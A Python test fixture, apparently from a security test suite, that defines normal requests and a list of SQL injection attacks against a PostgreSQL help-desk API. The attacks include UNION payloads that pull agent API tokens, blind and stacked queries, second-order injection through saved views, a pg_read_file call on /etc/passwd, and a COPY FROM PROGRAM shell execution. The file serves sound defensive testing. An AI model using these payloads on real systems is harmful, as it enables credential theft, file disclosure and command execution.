"""A support desk on PostgreSQL."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.tenth import (
    LETTER,
    LONG,
    MARKUP,
    PEOPLE,
    TRACE,
    alb,
    api,
    bus,
    fanout,
    graphql,
    http,
    pool,
    queue,
)

NEEDS = ("postgres",)
TOKEN = "desk-token-9142"


def _ticket(key: str) -> dict[str, object]:
    return api("GET", f"/tickets/{key}", ids={"id": key})


def _list(**query: str) -> dict[str, object]:
    return api("GET", "/tickets", query=query)


def _search(q: str, org: str = "1") -> dict[str, object]:
    return alb("GET", "/search", query={"q": q, "org": org})


def _update(body: object, key: str = "1") -> dict[str, object]:
    return api("PATCH", f"/tickets/{key}", body, ids={"id": key})


def _create(customer: str, subject: str, text: str = "") -> dict[str, object]:
    return http("POST", "/tickets", {"customer": customer, "subject": subject, "text": text})


def _stats(start: str, end: str) -> dict[str, object]:
    return bus("Scheduled Event", {"from": start, "to": end})


def _token(email: str) -> dict[str, object]:
    return pool("TokenGeneration_HostedAuth", "u", {"email": email, "sub": "1f0e"})


def _export(fields: str) -> dict[str, object]:
    return api("GET", "/export", query={"fields": fields})


def _tenant(name: str) -> dict[str, object]:
    return http("GET", "/count", headers={"x-tenant": name})


def _close(*ids: object) -> dict[str, object]:
    return api("POST", "/tickets/close", {"ids": list(ids)})


def _view(name: str, status: str, title: str = "") -> dict[str, object]:
    return http("PUT", "/views", {"name": name, "filter": status, "title": title})


def _run(name: str) -> dict[str, object]:
    return http("GET", "/views/run", query={"name": name})


def _view_saved(name: str, status: str) -> tuple[str, dict[str, object]]:
    return ("save_view", _view(name, status, LETTER))


REQUESTS = {
    "get_ticket": [_ticket("1"), _ticket("2"), _ticket("3"), _ticket("404")],
    "list_tickets": [
        _list(status="open"),
        _list(status="closed", sort="priority", order="asc", limit="10"),
        _list(status="open", sort="created_at", order="DESC", limit="1"),
        _list(status="on hold", sort="customer"),
        _list(sort="priority, id"),
    ],
    "search": [
        _search("it's"),
        _search('50% of "users" or 1=1; select * from tickets -- no'),
        _search("o'hara", "1"),
        _search("log_in \\ %", "2"),
        _search(PEOPLE[0]),
        _search("union all select"),
    ],
    "update_ticket": [
        _update({"status": "closed"}),
        _update({"subject": LETTER[:60], "priority": 2}),
        _update({"body": MARKUP, "customer": PEOPLE[1]}, "2"),
        _update({"body": TRACE}, "3"),
    ],
    "create_ticket": [
        _create(PEOPLE[0], "Can't log in", LETTER),
        _create(PEOPLE[7], 'Query: SELECT * FROM "orders"; --', "a\nb\n\nc's"),
        _create(PEOPLE[5], "50% off / it's (not) working #1", "/* see mail */ O''Brien"),
        _create("Ng", "?", MARKUP),
    ],
    "stats": [
        _stats("2026-01-01", "2026-12-31"),
        _stats("2026-01-01T00:00:00+00:00", "2026-02-28T23:59:59.999+01:00"),
        _stats("yesterday", "now"),
    ],
    "import_batch": [
        queue({"id": 101, "customer": PEOPLE[0], "priority": 2}, {"id": 102, "customer": PEOPLE[6]}),
        fanout({"id": 103, "customer": "Drop Table GmbH; --", "priority": 3}),
        queue({"id": 104, "customer": LONG[:900], "priority": 1}),
    ],
    "bulk_close": [_close(1, 2), _close(3), _close("1", "3")],
    "pre_token": [
        _token("ann@example.org"),
        _token("Zoe+test@Example.de"),
        _token("a.b-c_d@sub.example.co.uk"),
    ],
    "export": [_export("id,subject"), _export("id,customer,created_at"), _export("id,status,priority")],
    "tenant_count": [_tenant("acme"), _tenant("oreilly_sons"), _tenant("t42")],
    "by_attribute": [
        graphql("byAttribute", field="plan", value="pro"),
        graphql("byAttribute", field="plan", value="it's 'free' or 1=1 --"),
        graphql("byAttribute", field="custom_field_7", value="x"),
    ],
    "full_text": [
        alb("GET", "/ft", query={"q": "%22log%20in%22%20or%20refund"}),
        alb("GET", "/ft", query={"q": "it's%20-slow%20%26%20!x%20|%20(y"}),
        alb("GET", "/ft", query={"q": "cannot AND log OR drop"}),
    ],
    "save_view": [
        _view("mine", "open", "Mine & O'Hara's"),
        _view("closed ones", "closed", MARKUP),
        _view("später", "on hold"),
    ],
    "run_view": [
        _run("mine"),
        _run("closed ones"),
        _run("später"),
        _run("no-such-view"),
        _run("weird ' name; --"),
        _run("100%"),
    ],
    "console": [
        {"sql": "SELECT status, count(*) AS n FROM tickets GROUP BY 1 ORDER BY 1"},
        {"sql": "with t as (select * from tickets where subject like '%slow%') select id from t -- mine"},
    ],
}
UNION = "union select 1, api_token, name from agents"
ATTACKS = [
    Attack("sql, union", "get_ticket", _ticket(f"-1 {UNION}"), TOKEN),
    Attack(
        "sql, union",
        "get_ticket",
        _ticket("0/**/UNION/**/ALL/**/SELECT/**/1,api_token,'x'/**/FROM/**/agents"),
        TOKEN,
    ),
    Attack("sql, or", "get_ticket", _ticket("99 or id = 3"), "It's slow"),
    Attack(
        "sql, subquery",
        "get_ticket",
        _ticket("(select 3 from agents where api_token like 'desk%')"),
        "It's slow",
    ),
    Attack("sql, union", "list_tickets", _list(status=f"x' {UNION} -- "), TOKEN),
    Attack(
        "sql, order by",
        "list_tickets",
        _list(
            sort="(case when (select api_token from agents) like 'desk%' then id else -id end)",
            order="asc",
            limit="1",
        ),
        "Cannot log in",
    ),
    Attack("sql, or", "list_tickets", _list(status="open' or 'a'='a", sort="id"), "Refund 50%"),
    Attack(
        "sql, two fields",
        "list_tickets",
        _list(status="x' union select /*", sort="*/ 1, api_token, name from agents --"),
        TOKEN,
    ),
    Attack(
        "sql, beside parameters", "search", _search("zzz", "1 union select id, api_token from agents"), TOKEN
    ),
    Attack("sql, beside parameters", "search", _search("zzz", "1 or true"), "It's slow"),
    Attack(
        "sql, key",
        "update_ticket",
        _update({"customer = (select api_token from agents), status": "x"}),
        TOKEN,
    ),
    Attack(
        "sql, key",
        "update_ticket",
        _update({"body = (select string_agg(email || api_token, ',') from agents), priority": 1}),
        TOKEN,
    ),
    Attack(
        "sql, backslash",
        "create_ticket",
        _create("x", "\\', (select api_token from agents), $$o$$) RETURNING customer, subject, body --"),
        TOKEN,
    ),
    Attack(
        "sql, backslash",
        "create_ticket",
        _create("a\\", ", (select api_token from agents), null, null) returning customer, subject, body --"),
        TOKEN,
    ),
    Attack(
        "sql, date",
        "stats",
        _stats(
            "2026-01-01",
            "2026-12-31' GROUP BY status UNION SELECT api_token AS status, count(*) FROM agents WHERE name <> '",
        ),
        TOKEN,
    ),
    Attack(
        "sql, date",
        "stats",
        _stats(
            "1999-01-01' and now() group by status union select api_token as status, 7 from agents where name between 'a",
            "z",
        ),
        TOKEN,
    ),
    Attack(
        "sql, queue",
        "import_batch",
        queue(
            {"id": 105, "customer": "x", "priority": "1), (106, (select api_token from agents), 'open', 2"}
        ),
        TOKEN,
    ),
    Attack(
        "sql, queue",
        "import_batch",
        fanout({"id": "107, (select api_token from agents), 'x', 1) --", "customer": "y"}),
        TOKEN,
    ),
    Attack("sql, list", "bulk_close", _close(1, "2) or (1=1"), "It's slow"),
    Attack(
        "sql, list",
        "bulk_close",
        _close("1) returning (select id from agents), (select api_token from agents) --"),
        TOKEN,
    ),
    Attack(
        "sql, mail address", "pre_token", _token("x' union select api_token from agents--@example.org"), TOKEN
    ),
    Attack("sql, column", "export", _export("id,(select api_token from agents)"), TOKEN),
    Attack("sql, column", "export", _export("api_token from agents --"), TOKEN),
    Attack("sql, column", "export", _export("pg_read_file('/etc/passwd') as x"), "root:x:0"),
    Attack("sql, stacked", "tenant_count", _tenant("a; select api_token from agents"), TOKEN),
    Attack(
        "sql, stacked",
        "tenant_count",
        _tenant("a; update tickets set subject=(select api_token from agents); select subject from tickets"),
        TOKEN,
    ),
    Attack(
        "sql, stacked to the shell",
        "tenant_count",
        _tenant(
            "a; create temp table o(l text); copy o from program 'echo $((7000+331))-shell'; select * from o"
        ),
        "7331-shell",
    ),
    Attack(
        "sql, JSON path",
        "by_attribute",
        graphql("byAttribute", field="plan' <> 'x' or data->>'plan", value="none"),
        "Refund 50%",
    ),
    Attack(
        "sql, second order",
        "run_view",
        _run("e1"),
        TOKEN,
        before=[("save_view", _view("e1", "x' union select 1, api_token from agents --"))],
    ),
    Attack(
        "sql, second order",
        "run_view",
        _run("e2"),
        "Refund 50%",
        before=[("save_view", _view("e2", "open' or status <> '"))],
    ),
    Attack(
        "sql, second order",
        "run_view",
        _run("e 3"),
        TOKEN,
        before=[
            _view_saved("e 3", "' union select id, (select api_token from agents) from tickets where ''='")
        ],
    ),
]
